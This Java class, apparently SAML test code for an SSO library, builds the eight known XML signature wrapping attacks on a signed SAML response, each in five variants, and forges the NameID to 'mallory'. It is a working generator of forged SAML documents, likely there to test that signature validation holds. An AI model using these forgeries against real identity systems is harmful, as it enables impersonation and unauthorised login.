package dev.castellan.sso.saml;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * Signature wrapping (Somorovsky and others, 2012): the eight ways, each with five ways to name the
 * forged part. What is forged says {@value #FORGED}.
 */
final class Attacks {

  static final String FORGED = "mallory";

  private static final String EXTENSIONS = "samlp:Extensions";

  /** How the forged part is made to look. */
  enum Variant {
    SAME_ID,
    NEW_ID,
    NO_ID,
    ID_IN_LOWER_CASE,
    WITH_COMMENT
  }

  private Attacks() {}

  /** The signed document, wrapped in the way of this number. */
  static String wrapped(String signed, int way, Variant variant) {
    Document document = Xml.parse(signed);
    switch (way) {
      case 1 -> response(document, variant, true);
      case 2 -> response(document, variant, false);
      case 3 -> sibling(document, variant);
      case 4 -> around(document, variant);
      case 5 -> moved(document, variant);
      case 6 -> inside(document, variant);
      case 7 -> extended(document, variant);
      case 8 -> object(document, variant);
      default -> throw new IllegalArgumentException("1 to 8");
    }
    return Xml.text(document);
  }

  private static Element forged(Element original, Variant variant) {
    Element copy = (Element) original.cloneNode(true);
    Xml.children(copy, Xml.DSIG, "Signature").forEach(copy::removeChild);
    forge(copy, variant);
    switch (variant) {
      case NEW_ID -> copy.setAttribute("ID", "_forged");
      case NO_ID -> copy.removeAttribute("ID");
      case ID_IN_LOWER_CASE -> {
        copy.setAttribute("id", copy.getAttribute("ID"));
        copy.removeAttribute("ID");
      }
      default -> {}
    }
    return copy;
  }

  private static void forge(Element copy, Variant variant) {
    each(
        copy,
        element -> {
          if (element.getLocalName().equals("NameID")) {
            element.setTextContent(FORGED);
            if (variant == Variant.WITH_COMMENT) {
              element.appendChild(element.getOwnerDocument().createComment("x"));
            }
          }
        });
  }

  static void each(Element from, Consumer<Element> visitor) {
    visitor.accept(from);
    Xml.children(from).forEach(child -> each(child, visitor));
  }

  private static Element assertion(Document document) {
    return Xml.one(document, Xml.ASSERTION, "Assertion");
  }

  private static Element signatureOf(Element element) {
    List<Element> found = Xml.children(element, Xml.DSIG, "Signature");
    return found.isEmpty()
        ? element.getOwnerDocument().createElementNS(Xml.DSIG, "Signature")
        : found.get(0);
  }

  /** 1 and 2: the signed response inside or beside the signature of a forged one. */
  private static void response(Document document, Variant variant, boolean within) {
    Element original = Xml.root(document);
    Element forged = forged(original, variant);
    Element signature = signatureOf(original);
    document.removeChild(original);
    document.appendChild(forged);
    Node second = Xml.children(forged).get(0).getNextSibling();
    if (signature.getParentNode() != null) {
      original.removeChild(signature);
    }
    forged.insertBefore(signature, second);
    if (within) {
      signature.appendChild(original);
    } else {
      forged.insertBefore(original, signature);
    }
  }

  /** 3: a forged assertion before the signed one. */
  private static void sibling(Document document, Variant variant) {
    Element original = assertion(document);
    original.getParentNode().insertBefore(forged(original, variant), original);
  }

  /** 4: a forged assertion around the signed one. */
  private static void around(Document document, Variant variant) {
    Element original = assertion(document);
    Element forged = forged(original, variant);
    original.getParentNode().replaceChild(forged, original);
    forged.appendChild(original);
  }

  /** 5: the signature moved to the forged assertion, the signed one at the end. */
  private static void moved(Document document, Variant variant) {
    Element original = assertion(document);
    Element forged = forged(original, variant);
    Node parent = original.getParentNode();
    parent.replaceChild(forged, original);
    Element signature = signatureOf(original);
    if (signature.getParentNode() != null) {
      original.removeChild(signature);
    }
    forged.insertBefore(signature, Xml.children(forged).get(0).getNextSibling());
    parent.appendChild(original);
  }

  /** 6: the same, the signed one inside the signature. */
  private static void inside(Document document, Variant variant) {
    moved(document, variant);
    Element original = Xml.all(document, Xml.ASSERTION, "Assertion").get(1);
    Element forged = Xml.all(document, Xml.ASSERTION, "Assertion").get(0);
    signatureOf(forged).appendChild(original);
  }

  /** 7: the forged one in extensions, which may hold anything. */
  private static void extended(Document document, Variant variant) {
    Element original = assertion(document);
    Element extensions = document.createElementNS(Xml.PROTOCOL, EXTENSIONS);
    extensions.appendChild(forged(original, variant));
    Node root = original.getParentNode();
    root.insertBefore(extensions, Xml.children(root).get(1));
  }

  /** 8: the signed one in an object of the signature of the forged one. */
  private static void object(Document document, Variant variant) {
    moved(document, variant);
    List<Element> both = Xml.all(document, Xml.ASSERTION, "Assertion");
    Element holder = document.createElementNS(Xml.DSIG, "ds:Object");
    signatureOf(both.get(0)).appendChild(holder);
    holder.appendChild(both.get(1));
  }

  /** All of them, of one signed document. */
  static List<String> all(String signed) {
    List<String> found = new ArrayList<>();
    for (int way = 1; way <= 8; way++) {
      for (Variant variant : Variant.values()) {
        found.add(wrapped(signed, way, variant));
      }
    }
    return found;
  }
}
